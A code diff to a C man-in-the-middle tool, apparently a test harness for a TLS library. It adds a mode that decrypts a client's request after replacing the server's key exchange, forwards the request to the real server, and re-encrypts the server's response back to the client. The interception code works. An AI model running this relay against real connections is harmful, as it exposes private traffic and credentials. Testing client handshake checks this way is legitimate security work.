@@ -37,6 +37,8 @@
 #include "glasstls/gcm.h"
 #include "glasstls/prf.h"
 #include "glasstls/sha2.h"
+#include "glasstls/tls.h"
+#include "glasstls/x509.h"
 #include "glasstls/x25519.h"
 
 #include "mitm.h"
@@ -69,6 +71,9 @@ typedef struct mitm {
     uint8_t master[GLASS_MASTER_SECRET_SIZE];
     gcm_dir to_cl, from_cl_dir;
     double t0, deadline;
+    const char *connect_to;
+    const char *forward_ca;           /* --forward CAFILE: relay to the real server */
+    const char *forward_name;         /* the name its certificate must have */
 } mitm;
 
 static size_t be(const uint8_t *p, int n)
@@ -384,6 +389,53 @@ static const char answer_body[] =
     "glass-mitm answered this: the relay holds this connection's keys.\n"
     "The certificate was the real server's, the key exchange was with the relay.\n";
 
+/* --forward: the request, over a TLS connection of our own to the real
+ * server (a normal glasstls client, which checks the server's certificate
+ * and signature: the relay is a client like any other there), and the
+ * response back into resp.  Its length, or -1. */
+static long forward(mitm *m, const uint8_t *req, size_t req_len, uint8_t *resp, size_t cap)
+{
+    glass_x509_list trust;
+    glass_x509_list_init(&trust);
+    int rc = glass_x509_list_load_file(&trust, m->forward_ca);
+    if (rc != 0 || trust.count == 0) {
+        printf("replace-ske: --forward %s: %s\n", m->forward_ca,
+               rc != 0 ? glass_strerror(rc) : "no certificate");
+        glass_x509_list_free(&trust);
+        return -1;
+    }
+    glass_config cfg;
+    glass_config_init(&cfg, GLASS_ROLE_CLIENT);
+    cfg.trust = &trust;
+    cfg.server_name = m->forward_name;
+    glass_conn *c = NULL;
+    long total = -1, n = 0;
+    int fd = mitm_connect(m->connect_to);
+    if (fd < 0 || glass_conn_new(&c, &cfg, glass_transport_fd(fd)) != 0)
+        goto out;
+    if ((rc = glass_handshake(c)) != 0) {
+        printf("replace-ske: our own connection to the server failed: %s\n", glass_strerror(rc));
+        goto out;
+    }
+    const char *sn = mitm_suite_name(glass_conn_suite(c));
+    printf("%7.3f s  relay -> server: a TLS connection of our own (%s, certificate checked), "
+           "the request forwarded\n", mitm_now() - m->t0, sn ? sn : "?");
+    if (glass_write(c, req, req_len) != (long)req_len)
+        goto out;
+    total = 0;
+    while ((size_t)total < cap && (n = glass_read(c, resp + total, cap - (size_t)total)) > 0)
+        total += n;
+    if (n != GLASS_E_CLOSED && n != 0 && (size_t)total < cap)
+        printf("replace-ske: reading the server's response: %s\n", glass_strerror((int)n));
+    glass_close(c);
+out:
+    glass_conn_free(c);
+    if (fd >= 0)
+        close(fd);
+    glass_x509_list_free(&trust);
+    return total;
+}
+
 static int serve_client(mitm *m)
 {
     mitm_side *cl = &m->cl;
@@ -447,16 +499,35 @@ static int serve_client(mitm *m)
     printf("%7.3f s  client -> server: application data, DECRYPTED by the relay (%zu bytes):\n",
            mitm_now() - m->t0, got);
     printf("---- the client's request ----\n%.*s---- end ----\n", (int)got, (const char *)req);
-    char resp[512];
-    int rl = snprintf(resp, sizeof resp,
+    static uint8_t resp[256 * 1024];
+    long rl;
+    if (m->forward_ca != NULL) {
+        if ((rl = forward(m, req, got, resp, sizeof resp)) < 0)
+            return -1;
+        size_t line = 0;
+        while (line < (size_t)rl && resp[line] != '\r' && resp[line] != '\n')
+            line++;
+        printf("%7.3f s  server -> relay: %ld bytes of response, in the clear for us: %.*s\n",
+               mitm_now() - m->t0, rl, (int)line, (const char *)resp);
+        printf("---- the server's response%s ----\n%.*s\n---- end ----\n",
+               rl > 1024 ? " (its first 1024 bytes)" : "", (int)(rl > 1024 ? 1024 : rl),
+               (const char *)resp);
+    } else {
+        rl = snprintf((char *)resp, sizeof resp,
                       "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\n"
                       "Connection: close\r\n\r\n%s", sizeof answer_body - 1, answer_body);
+    }
     static const uint8_t close_notify[2] = { 1, 0 };
-    if (seal_send(&m->to_cl, cl->fd, 23, (const uint8_t *)resp, (size_t)rl) != 0 ||
-        seal_send(&m->to_cl, cl->fd, 21, close_notify, 2) != 0)
+    for (long off = 0; off < rl; off += 16384)
+        if (seal_send(&m->to_cl, cl->fd, 23, resp + off,
+                      (size_t)(rl - off > 16384 ? 16384 : rl - off)) != 0)
+            return -1;
+    if (seal_send(&m->to_cl, cl->fd, 21, close_notify, 2) != 0)
         return -1;
     shutdown(cl->fd, SHUT_WR);
-    say(m, "relay -> client: our own HTTP response and close_notify%s", "");
+    say(m, "relay -> client: %s, and close_notify",
+        m->forward_ca != NULL ? "the server's response, re-sealed under the client's keys"
+                              : "our own HTTP response");
     /* the client's close_notify, then the end */
     while ((n = mitm_wait_record(cl, mitm_now() + 2)) > 0) {
         uint8_t type = cl->buf[0];
@@ -526,25 +597,31 @@ static int run(mitm *m)
     if (serve_client(m) != 0)
         return -1;
     printf("replace-ske: ATTACK WORKED: the client took our key, %.3f s after it came; "
-           "we read its request and answered it ourselves\n", mitm_now() - m->t0);
+           "we read its request and %s\n", mitm_now() - m->t0,
+           m->forward_ca != NULL ? "relayed it, and read the server's answer"
+                                 : "answered it ourselves");
     return 0;
 }
 
 static void usage(void)
 {
     fprintf(stderr, "usage: glass-mitm replace-ske --listen 127.0.0.1:PORT --connect "
-                    "127.0.0.1:PORT [--timeout S]\n"
-                    "  one ECDHE_RSA connection (x25519), with our key in its ServerKeyExchange\n");
+                    "127.0.0.1:PORT [--timeout S] [--forward CAFILE [--name HOST]]\n"
+                    "  one ECDHE_RSA connection (x25519), with our key in its ServerKeyExchange;\n"
+                    "  --forward: the decrypted request goes on to the real server over our own\n"
+                    "  TLS connection (checked against CAFILE, name HOST, default localhost)\n");
 }
 
 int mitm_replace_main(int argc, char **argv)
 {
-    const char *listen_at = NULL, *connect_to = NULL;
+    const char *listen_at = NULL, *connect_to = NULL, *ca = NULL, *name = "localhost";
     int timeout = 20;
     for (int i = 1; i < argc; i++) {
         if (strcmp(argv[i], "--listen") == 0 && i + 1 < argc) listen_at = argv[++i];
         else if (strcmp(argv[i], "--connect") == 0 && i + 1 < argc) connect_to = argv[++i];
         else if (strcmp(argv[i], "--timeout") == 0 && i + 1 < argc) timeout = atoi(argv[++i]);
+        else if (strcmp(argv[i], "--forward") == 0 && i + 1 < argc) ca = argv[++i];
+        else if (strcmp(argv[i], "--name") == 0 && i + 1 < argc) name = argv[++i];
         else { usage(); return 2; }
     }
     if (listen_at == NULL || connect_to == NULL || timeout <= 0) {
@@ -552,6 +629,9 @@ int mitm_replace_main(int argc, char **argv)
         return 2;
     }
     static mitm m;
+    m.connect_to = connect_to;
+    m.forward_ca = ca;
+    m.forward_name = name;
     m.cl.fd = m.sv.fd = -1;
     m.cl.name = "client", m.sv.name = "server";
     glass_drbg rng;
